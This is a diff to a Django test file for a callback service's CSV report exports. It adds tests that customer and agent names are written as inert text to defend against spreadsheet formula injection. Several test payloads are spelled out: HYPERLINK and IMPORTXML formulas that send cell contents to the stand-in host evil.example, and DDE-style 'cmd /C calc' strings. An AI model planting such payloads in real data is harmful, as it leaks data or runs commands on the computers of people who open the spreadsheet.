@@ -3,6 +3,7 @@ bounded memory, for supervisors on their queues (here an Admin: every queue)."""
 
 import csv
 import io
+import json
 import tracemalloc
 from datetime import timedelta
 
@@ -16,8 +17,10 @@ from django.utils import timezone
 from callbacks import lifecycle, roles
 from callbacks.enums import CallbackState
 from callbacks.models import CallbackRequest, Offer
+from callbacks.spreadsheet import safe_cell
 
-from .factories import PASSWORD, make_callback, set_ready
+from .factories import PASSWORD, make_api_client, make_callback, set_ready
+from .test_public_pages import form
 
 URL = "/reports/callbacks.csv"
 
@@ -98,7 +101,7 @@ def test_100000_callbacks_stream_in_bounded_memory(staff, queue):
     size = lines = 0
     for chunk in response.streaming_content:
         size += len(chunk)
-        lines += 1
+        lines += chunk.count(b"\n")
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
     assert lines == 100_001
@@ -117,3 +120,73 @@ async def test_under_asgi_the_export_is_an_async_stream(transactional_db, queue)
     assert response.status_code == 200 and response.is_async
     body = b"".join([chunk async for chunk in response.streaming_content]).decode()
     assert body.count("\n") == 2 and "billing" in body
+
+
+# --- Formula injection (OWASP "CSV Injection") ------------------------------------------------------------------------
+
+RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what Excel, LibreOffice and Google Sheets read as a formula
+
+
+def cells_of(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+
+
+def assert_no_cell_runs(table: list[list[str]]) -> None:
+    running = [cell for row in table for cell in row if cell.startswith(RUNS_AS_FORMULA)]
+    assert running == [], f"cells a spreadsheet would run: {running}"
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+33612345678", "'+33612345678"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Nina =1+1", "Nina =1+1"),
+        ("", ""),
+        (None, ""),
+        (3, 3),
+        (-4, -4),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
+    assert safe_cell(value) == written
+
+
+def test_formula_payloads_from_every_customer_entry_arrive_as_text(staff, queue, client):
+    """The customer's page, the REST API and GMS each take a name a customer typed; the export shows it, inert."""
+    queue.gms_service = "billing-cb"
+    queue.save()
+    _, token = make_api_client()
+    payloads = {
+        "api": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "gms": "+cmd|' /C calc'!A0",
+        "page": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "api-minus": "-2+3+cmd|' /C calc'!A0",
+    }
+    api = {"HTTP_AUTHORIZATION": f"Bearer {token}", "content_type": "application/json"}
+    for key, phone in [("api", "+33612340001"), ("api-minus", "+33612340004")]:
+        body = {"queue": "billing", "phone_number": phone, "customer_name": payloads[key]}
+        assert client.post("/api/v1/callbacks", data=json.dumps(body), **api).status_code == 201
+    gms = {"_customer_number": "+33612340002", "_customer_name": payloads["gms"]}
+    assert client.post("/genesys/1/service/callback/billing-cb", data=json.dumps(gms), **api).status_code == 200
+    assert client.post("/request/billing/", form(phone="+33612340003", name=payloads["page"])).status_code == 302
+    assert sorted(CallbackRequest.objects.values_list("customer_name", flat=True)) == sorted(payloads.values())
+
+    table = cells_of(staff.get(URL))
+    assert_no_cell_runs(table)
+    names = {row[table[0].index("customer_name")] for row in table[1:]}
+    assert names == {"'" + name for name in payloads.values()}
+    phones = {row[table[0].index("phone_number")] for row in table[1:]}
+    assert phones == {"'+3361234000" + n for n in "1234"}  # read as text, not as the number 33612340001
+
+
+def test_the_agent_activity_export_writes_an_agents_name_as_text(staff, queue, alice):
+    alice.display_name = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
+    alice.save()
+    table = cells_of(staff.get("/reports/agents.csv"))
+    assert_no_cell_runs(table)
+    assert {row[0] for row in table[1:]} == {"'" + alice.display_name}
